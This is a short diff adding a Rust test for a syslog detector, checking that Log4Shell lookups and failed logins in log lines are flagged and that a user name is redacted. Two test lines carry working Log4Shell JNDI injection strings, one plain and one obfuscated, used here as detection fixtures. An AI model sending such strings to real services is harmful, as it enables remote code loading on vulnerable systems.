@@ -55,6 +55,24 @@ fn what_is_told_is_counted_and_not_kept() {
 }
 
 #[test]
+fn a_look_up_in_what_is_logged_is_marked() {
+    let rows = play(&[
+        b"<38>Nov 29 16:43:56 ct01 nginx: \"GET / HTTP/1.1\" \"${jndi:ldap://10.0.0.9/erika}\"",
+        b"<38>Nov 29 16:43:57 ct01 cron[8]: (root) CMD (echo $HOME ${x} %5)",
+        b"<38>Nov 29 16:43:58 ct01 sshd[812]: Failed password for ${${::-j}ndi:dns://x}",
+    ]);
+    told(
+        &rows[0],
+        &[
+            ("messages", "3"),
+            ("marks", "[syslog-exploit, syslog-login-failed, exploit-log4shell]"),
+            ("marked", "2"),
+        ],
+    );
+    assert!(!format!("{rows:?}").contains("erika"));
+}
+
+#[test]
 fn switches_and_programs_without_a_stamp_are_read() {
     let rows = play(&[b"<189>45: *Mar  1 00:01:01: %SYS-5-CONFIG_I: Configured from console by erika"]);
     told(
